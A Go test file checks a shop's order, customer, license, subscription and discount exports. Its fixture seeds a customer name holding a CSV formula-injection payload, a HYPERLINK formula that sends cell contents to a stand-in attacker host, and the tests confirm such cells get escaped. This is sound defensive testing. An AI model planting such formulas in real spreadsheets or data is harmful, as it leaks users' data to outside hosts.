package shop_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"vendo/app"
	"vendo/app/shop"
	"vendo/app/store"
)

// seedExports writes orders, customers, a subscription and keys straight
// to the store: a refunded order in yen, and a customer whose name and
// email a spreadsheet would run as formulas.
func seedExports(t *testing.T, f *fixture) (evil app.Customer) {
	t.Helper()
	ctx := context.Background()
	err := f.store.Update(ctx, func(tx *store.Tx) error {
		evil = app.Customer{Email: "-2+3@example.com", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`}
		plain := app.Customer{Email: "plain@example.com", Name: "Plain Buyer"}
		for _, c := range []*app.Customer{&evil, &plain} {
			if err := tx.PutCustomer(c); err != nil {
				return err
			}
		}
		put := func(c app.Customer, session string, total int64, currency string, refunded int64) error {
			o := app.Order{CustomerID: c.ID, Email: c.Email, Name: c.Name, CheckoutSessionID: session, PaymentStatus: app.PaymentPaid,
				Lines:    []app.OrderLine{{ProductID: f.product.ID, Title: "@SUM(1+1)", Quantity: 1}, {Title: "\tTabbed"}},
				Subtotal: app.Money{Amount: total, Currency: currency}, Total: app.Money{Amount: total, Currency: currency},
				AmountRefunded: refunded, PaidAt: time.Date(2026, 3, 4, 5, 6, 7, 0, time.FixedZone("CET", 3600))}
			o.Status, _ = o.State()
			return tx.PutOrder(&o)
		}
		if err := put(evil, "cs_evil", 1299, "usd", 0); err != nil {
			return err
		}
		if err := put(plain, "cs_yen", 5000, "jpy", 5000); err != nil {
			return err
		}
		return put(plain, "cs_plain", 1200, "usd", 200)
	})
	if err != nil {
		t.Fatal(err)
	}
	return evil
}

// readCSV parses an export and keys each row by the header.
func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("not CSV (%v): %s", err, b)
	}
	var out []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = r[i]
		}
		out = append(out, m)
	}
	return out
}

// TestExportsShowWhatTheFilterShows: the order export in CSV and JSON has
// every row the filter selects and no other, money as decimal strings
// in the currency's decimals beside the currency, times in RFC 3339 UTC,
// and no CSV cell a spreadsheet would run as a formula.
func TestExportsShowWhatTheFilterShows(t *testing.T) {
	f := newFixture(t)
	evil := seedExports(t, f)
	ctx := context.Background()

	var buf bytes.Buffer
	n, err := f.shop.ExportOrders(ctx, &buf, shop.ExportCSV, store.OrderFilter{}, "")
	if err != nil || n != 3 {
		t.Fatalf("%d rows, %v", n, err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 3 {
		t.Fatalf("%d rows: %s", len(rows), buf.Bytes())
	}
	// Newest first, as the list.
	plain, yen, bad := rows[0], rows[1], rows[2]
	if plain["status"] != app.OrderPartiallyRefunded || plain["total"] != "12.00" || plain["amount_refunded"] != "2.00" || plain["currency"] != "USD" {
		t.Errorf("the partly refunded order: %v", plain)
	}
	if yen["status"] != app.OrderRefunded || yen["total"] != "5000" || yen["currency"] != "JPY" {
		t.Errorf("the yen order: %v", yen)
	}
	if bad["paid_at"] != "2026-03-04T04:06:07Z" || bad["total"] != "12.99" || bad["number"] == "" {
		t.Errorf("times in UTC, money as decimals: %v", bad)
	}
	// Every cell a spreadsheet would evaluate starts with an apostrophe.
	for col, want := range map[string]string{"name": "'" + evil.Name, "email": "'-2+3@example.com", "products": "'@SUM(1+1); \tTabbed"} {
		if bad[col] != want {
			t.Errorf("%s: %q, want %q", col, bad[col], want)
		}
	}
	for _, r := range rows {
		for col, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("%s: %q would run as a formula", col, v)
			}
		}
	}

	// The filter: refunded orders only; then one customer's by email; an
	// unknown email has none.
	buf.Reset()
	if n, err := f.shop.ExportOrders(ctx, &buf, shop.ExportCSV, store.OrderFilter{Status: app.OrderRefunded}, ""); err != nil || n != 1 {
		t.Fatalf("refunded: %d rows, %v", n, err)
	}
	if rows := readCSV(t, buf.Bytes()); len(rows) != 1 || rows[0]["currency"] != "JPY" {
		t.Fatalf("refunded: %v", rows)
	}
	buf.Reset()
	if n, _ := f.shop.ExportOrders(ctx, &buf, shop.ExportJSON, store.OrderFilter{}, "plain@example.com"); n != 2 {
		t.Fatalf("by email: %d rows", n)
	}
	var list []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &list); err != nil || len(list) != 2 {
		t.Fatalf("not a JSON array of 2 (%v): %s", err, buf.Bytes())
	}
	// JSON keeps the text as it is (nothing runs it), numbers as numbers,
	// money as strings, unset times as null.
	if list[0]["total"] != "12.00" || list[0]["email"] != "plain@example.com" || list[0]["created_at"] == nil {
		t.Errorf("json row: %v", list[0])
	}
	if _, ok := list[0]["number"].(float64); !ok {
		t.Errorf("number is %T, want a JSON number", list[0]["number"])
	}
	for _, k := range []string{"paid_at", "payment_intent_id"} {
		if _, ok := list[0][k]; !ok {
			t.Errorf("json row has no %q", k)
		}
	}
	buf.Reset()
	if n, err := f.shop.ExportOrders(ctx, &buf, shop.ExportJSON, store.OrderFilter{}, "nobody@example.com"); n != 0 || err != nil || strings.TrimSpace(buf.String()) != "[\n]" {
		t.Fatalf("an unknown email: %d rows, %v: %q", n, err, buf.String())
	}

	// Customers, searched as the list searches.
	buf.Reset()
	if n, err := f.shop.ExportCustomers(ctx, &buf, shop.ExportCSV, store.CustomerFilter{Query: "plain"}); err != nil || n != 1 {
		t.Fatalf("customers: %d, %v", n, err)
	}
	if rows := readCSV(t, buf.Bytes()); rows[0]["email"] != "plain@example.com" || rows[0]["name"] != "Plain Buyer" {
		t.Fatalf("customers: %v", rows)
	}
	if _, err := f.shop.ExportCustomers(ctx, &buf, "xlsx", store.CustomerFilter{}); app.ErrorCode(err) != app.EINVALID {
		t.Fatalf("an unknown format: %v", err)
	}
}

// TestSpreadsheetSafe: a cell starting with each character a spreadsheet
// reads as a formula (=, +, -, @, tab, carriage return) gets an
// apostrophe in front; anything else, including those characters later
// in the cell, is left as it is.
func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1 555 0100": "'+1 555 0100", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
		"\t=cmd": "'\t=cmd", "\r=cmd": "'\r=cmd",
		"": "", "Ada": "Ada", "a=b": "a=b", "12.00": "12.00", " =1": " =1", "'quoted": "'quoted", "\n=1": "\n=1",
	} {
		if got := shop.SpreadsheetSafe(in); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestLicenseAndSubscriptionExports: keys with how each stands now and
// its activations; subscriptions with their plan and customer.
func TestLicenseAndSubscriptionExports(t *testing.T) {
	f := newKeyFixture(t, 3)
	ctx := context.Background()
	if out, err := f.shop.ActivateLicense(ctx, f.keys["active"].Key, "desk", ""); err != nil || !out.Activated {
		t.Fatal(out, err)
	}
	var buf bytes.Buffer
	n, err := f.shop.ExportLicenses(ctx, &buf, shop.ExportCSV, "")
	if err != nil || n != len(f.keys) {
		t.Fatalf("%d of %d keys, %v", n, len(f.keys), err)
	}
	byKey := map[string]map[string]string{}
	for _, r := range readCSV(t, buf.Bytes()) {
		byKey[r["key"]] = r
	}
	for name, want := range map[string]string{"active": "active ebook 3 1", "refunded-order": "refunded ebook 3 0",
		"disputed": "disputed ebook 3 0", "plan": "active   0", "plan-ended": "expired   0"} {
		r := byKey[f.keys[name].Key]
		if got := strings.Join([]string{r["status"], r["product"], r["activation_limit"], r["activation_usage"]}, " "); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
		if r["email"] != f.cust.Email {
			t.Errorf("%s: email %q", name, r["email"])
		}
	}
	if r := byKey[f.keys["plan"].Key]; r["plan"] != "pro" || r["expires_at"] != "2031-05-01T12:00:00Z" {
		t.Errorf("the plan's key: %v", r)
	}
	// The list's search: an email stands for its customer.
	buf.Reset()
	if n, _ := f.shop.ExportLicenses(ctx, &buf, shop.ExportJSON, f.other.Email); n != 0 {
		t.Errorf("another customer's keys: %d", n)
	}
	buf.Reset()
	if n, _ := f.shop.ExportLicenses(ctx, &buf, shop.ExportCSV, f.keys["spare"].Key); n != 1 {
		t.Errorf("by key: %d", n)
	}

	buf.Reset()
	n, err = f.shop.ExportSubscriptions(ctx, &buf, shop.ExportCSV, store.SubscriptionFilter{Status: "canceled"})
	if err != nil || n != 2 {
		t.Fatalf("canceled subscriptions: %d, %v", n, err)
	}
	for _, r := range readCSV(t, buf.Bytes()) {
		if r["status"] != "canceled" || r["plan"] != "Pro" || r["email"] != f.cust.Email || r["current_period_end"] != "2031-05-01T12:00:00Z" {
			t.Errorf("subscription row: %v", r)
		}
	}
}

// heapWatch is an export's destination that counts the bytes and, every
// few megabytes, the live heap after a collection: its peak is what the
// export holds, whatever it allocated and let go.
type heapWatch struct {
	n, next, peak uint64
}

func (h *heapWatch) Write(p []byte) (int, error) {
	h.n += uint64(len(p))
	if h.n >= h.next {
		h.next = h.n + 4<<20
		h.sample()
	}
	return len(p), nil
}

func (h *heapWatch) sample() {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	h.peak = max(h.peak, m.HeapAlloc)
}

// TestExportOf100kOrdersKeepsMemoryFlat: exporting 100,000 orders holds
// a page of them at a time. The rows together weigh far more than the
// bound (over 100 MB decoded), so an export that read the list whole,
// or buffered its output, would fail here.
func TestExportOf100kOrdersKeepsMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("seeds 100,000 orders")
	}
	t.Parallel() // the seeding takes a while under -race
	f := newFixture(t)
	ctx := context.Background()
	const total = 100_000
	var cust app.Customer
	for done := 0; done < total; {
		err := f.store.Update(ctx, func(tx *store.Tx) error {
			if cust.ID == "" {
				cust = app.Customer{Email: "bulk@example.com", Name: "Bulk Buyer"}
				if err := tx.PutCustomer(&cust); err != nil {
					return err
				}
			}
			for i := 0; i < 10_000; i++ {
				o := app.Order{CustomerID: cust.ID, Email: cust.Email, Name: cust.Name, CheckoutSessionID: fmt.Sprintf("cs_bulk_%06d", done+i),
					PaymentStatus: app.PaymentPaid, Status: app.OrderPaid, PaymentIntentID: fmt.Sprintf("pi_bulk_%06d_%s", done+i, strings.Repeat("x", 40)),
					Lines:    []app.OrderLine{{ProductID: f.product.ID, Title: "A product with a long enough title to weigh something", Quantity: 1}},
					Subtotal: app.Money{Amount: 1200, Currency: "usd"}, Total: app.Money{Amount: 1200, Currency: "usd"}}
				if err := tx.PutOrder(&o); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		done += 10_000
	}
	w := &heapWatch{}
	w.sample()
	base := w.peak
	w.peak = 0
	n, err := f.shop.ExportOrders(ctx, w, shop.ExportCSV, store.OrderFilter{}, "")
	if err != nil || n != total {
		t.Fatalf("%d rows, %v", n, err)
	}
	w.sample()
	grew := int64(w.peak) - int64(base)
	t.Logf("%d orders, %d MB of CSV; live heap %d MB before, at most %+.1f MB during", n, w.n>>20, base>>20, float64(grew)/(1<<20))
	if w.n < 20<<20 {
		t.Fatalf("only %d bytes written", w.n)
	}
	if grew > 16<<20 {
		t.Fatalf("the live heap grew by %.1f MB during the export; a page of orders is well under 16 MB", float64(grew)/(1<<20))
	}
}

// TestRedemptionExport: the discount codes' redemptions are the orders a
// code took money off, optionally one code's; the order export names the
// code and what it took off.
func TestRedemptionExport(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	err := f.store.Update(ctx, func(tx *store.Tx) error {
		for i, code := range []string{"SPRING20", "", "WELCOME5", "SPRING20"} {
			o := app.Order{Email: "buyer@example.com", CheckoutSessionID: fmt.Sprintf("cs_d%d", i), PaymentStatus: app.PaymentPaid, Status: app.OrderPaid,
				Subtotal: app.Money{Amount: 1000, Currency: "usd"}, Total: app.Money{Amount: 800, Currency: "usd"}, DiscountCode: code}
			if code != "" {
				o.Discount = app.Money{Amount: 200, Currency: "usd"}
			} else {
				o.Total.Amount = 1000
			}
			if err := tx.PutOrder(&o); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if n, err := f.shop.ExportRedemptions(ctx, &buf, shop.ExportCSV, ""); err != nil || n != 3 {
		t.Fatalf("%d redemptions, %v", n, err)
	}
	rows := readCSV(t, buf.Bytes())
	if rows[0]["code"] != "SPRING20" || rows[0]["discount"] != "2.00" || rows[0]["subtotal"] != "10.00" || rows[0]["total"] != "8.00" || rows[1]["code"] != "WELCOME5" {
		t.Errorf("redemptions: %v", rows)
	}
	buf.Reset()
	if n, _ := f.shop.ExportRedemptions(ctx, &buf, shop.ExportJSON, "spring20"); n != 2 {
		t.Errorf("one code's: %d", n)
	}
	buf.Reset()
	f.shop.ExportOrders(ctx, &buf, shop.ExportCSV, store.OrderFilter{}, "")
	if rows := readCSV(t, buf.Bytes()); len(rows) != 4 || rows[0]["discount_code"] != "SPRING20" || rows[0]["discount"] != "2.00" || rows[2]["discount"] != "0.00" {
		t.Errorf("orders with their codes: %v", rows)
	}
}

// TestOrderExportCarriesTax: the order export has the tax of each order
// (all of it, and the part inside inclusive prices) and its invoice, in
// CSV and JSON; an untaxed order says 0.00.
func TestOrderExportCarriesTax(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	eur := func(n int64) app.Money { return app.Money{Amount: n, Currency: "eur"} }
	err := f.store.Update(ctx, func(tx *store.Tx) error {
		for _, o := range []app.Order{
			// Exclusive: 45.99 + 8.74 tax added.
			{Email: "de@example.com", CheckoutSessionID: "cs_tax1", Subtotal: eur(4599), Tax: eur(874), Total: eur(5473), InvoiceID: "in_1"},
			// Inclusive: 45.99 of which 7.34 tax.
			{Email: "de@example.com", CheckoutSessionID: "cs_tax2", Subtotal: eur(4599), Tax: eur(734), Total: eur(4599)},
			{Email: "us@example.com", CheckoutSessionID: "cs_tax3", Subtotal: eur(4599), Total: eur(4599)},
		} {
			o.PaymentStatus, o.Status = app.PaymentPaid, app.OrderPaid
			if err := tx.PutOrder(&o); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := f.shop.ExportOrders(ctx, &buf, shop.ExportCSV, store.OrderFilter{}, ""); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes()) // newest first
	want := [][4]string{{"0.00", "0.00", "45.99", ""}, {"7.34", "7.34", "45.99", ""}, {"8.74", "0.00", "54.73", "in_1"}}
	for i, w := range want {
		if got := [4]string{rows[i]["tax"], rows[i]["tax_included"], rows[i]["total"], rows[i]["invoice_id"]}; got != w {
			t.Errorf("row %d: tax, tax_included, total, invoice_id = %v, want %v", i, got, w)
		}
	}
	buf.Reset()
	if _, err := f.shop.ExportOrders(ctx, &buf, shop.ExportJSON, store.OrderFilter{}, ""); err != nil {
		t.Fatal(err)
	}
	var list []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &list); err != nil || len(list) != 3 {
		t.Fatalf("not a JSON array of 3 (%v): %s", err, buf.Bytes())
	}
	if list[2]["tax"] != "8.74" || list[1]["tax_included"] != "7.34" || list[0]["tax"] != "0.00" {
		t.Errorf("json tax: %v", list)
	}
}

// stalledClient is an export's destination that stops reading, as a
// download on a dead or very slow connection does: its first Write says
// so on entered and waits for release.
type stalledClient struct {
	entered, release chan struct{}
	once             sync.Once
	buf              bytes.Buffer
}

func (s *stalledClient) Write(p []byte) (int, error) {
	s.once.Do(func() { close(s.entered); <-s.release })
	return s.buf.Write(p)
}

// TestExportToAStalledClientHoldsNoTransaction: an export writes to the
// admin's connection, which may stop taking bytes for as long as it
// likes (the server has no write timeout: downloads are large). Written
// from inside a read transaction, a stalled client kept it open; a commit
// that grows the file waits for every open read, and every read after it
// waits behind that commit, so the whole shop stopped until the download
// ended. The test stalls the client and asks for such a commit meanwhile.
func TestExportToAStalledClientHoldsNoTransaction(t *testing.T) {
	f := newFixture(t)
	seedExports(t, f)
	ctx := context.Background()
	client := &stalledClient{entered: make(chan struct{}), release: make(chan struct{})}
	type result struct {
		n   int
		err error
	}
	exported := make(chan result, 1)
	go func() {
		n, err := f.shop.ExportOrders(ctx, client, shop.ExportCSV, store.OrderFilter{}, "")
		exported <- result{n, err}
	}()
	released := false
	release := func() {
		if !released {
			released = true
			close(client.release)
		}
	}
	defer release()
	select {
	case <-client.entered:
	case r := <-exported:
		t.Fatalf("the export ended without writing: %d rows, %v", r.n, r.err)
	}

	grown := make(chan error, 1)
	go func() {
		grown <- f.store.Update(ctx, func(tx *store.Tx) error {
			for i := range 8 { // 8 MB: more than the file maps, so the commit remaps it
				if err := tx.Audit(app.AuditEntry{Actor: "test", Action: "test.growth", Detail: fmt.Sprint(i, strings.Repeat("x", 1<<20))}); err != nil {
					return err
				}
			}
			return nil
		})
	}()
	select {
	case err := <-grown:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(10 * time.Second):
		t.Error("a commit that grows the file waited 10 s for an export whose client stopped reading: the export holds a read transaction while it writes")
		release()
		if err := <-grown; err != nil {
			t.Fatal(err)
		}
	}
	var entries []app.AuditEntry
	err := f.store.View(ctx, func(tx *store.Tx) (err error) {
		entries, _, err = tx.AuditLog(store.AuditFilter{Action: "test.growth"})
		return err
	})
	if err != nil || len(entries) != 8 {
		t.Fatalf("the growing commit kept %d entries (%v)", len(entries), err)
	}

	release()
	r := <-exported
	if r.err != nil || r.n != 3 {
		t.Fatalf("export: %d rows, %v", r.n, r.err)
	}
	if rows := readCSV(t, client.buf.Bytes()); len(rows) != 3 {
		t.Fatalf("the client got %d rows: %s", len(rows), client.buf.Bytes())
	}
}
